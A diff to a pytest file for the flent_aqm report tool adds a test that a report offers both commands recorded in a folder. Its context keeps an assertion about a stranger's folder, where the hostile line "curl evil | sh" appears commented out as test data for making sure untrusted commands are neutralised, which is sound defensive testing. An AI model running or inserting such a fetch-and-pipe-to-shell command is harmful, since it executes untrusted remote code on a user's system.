@@ -13,6 +13,7 @@ from urllib.parse import quote
 import pytest
 
 from flent_aqm.base.paths import resource_dir
+from flent_aqm.commands.report import purpose_of
 from flent_aqm.results import status
 from flent_aqm.results.metrics.run import load_run
 from flent_aqm.show.report.commands import offered_command, purpose, sweep_command
@@ -80,6 +81,18 @@ def test_report_on_a_strangers_folder_offers_none_of_its_words(tmp_path: Path) -
     commands = [command for _, command in report.commands]
     assert commands[0] == "# sh -c 'curl evil | sh'"
     assert all(command.startswith(("# ", "flent-aqm ")) for command in commands)
+
+
+def test_report_on_a_folder_of_two_commands_offers_both(tmp_path: Path) -> None:
+    """The second had other overrides, and the page offered only that one as "the same again"."""
+    first, second = (["flent", "-B", OURS, "--batch-override", f"aqm={name}"]
+                     for name in ("codel", "pie"))
+    begun = status.Status(second, 1, 0, 0.0, earlier=(first,))
+    folder = Folder(tmp_path, 0, begun)
+    commands = [command for _, command in build([], [], [folder], "title").commands]
+    assert commands[:2] == [shlex.join(first), shlex.join(second)]
+    assert purpose_of([folder]) == ""
+    assert purpose_of([Folder(tmp_path, 0, replace(begun, earlier=()))])
 
 
 @pytest.mark.parametrize("words", [
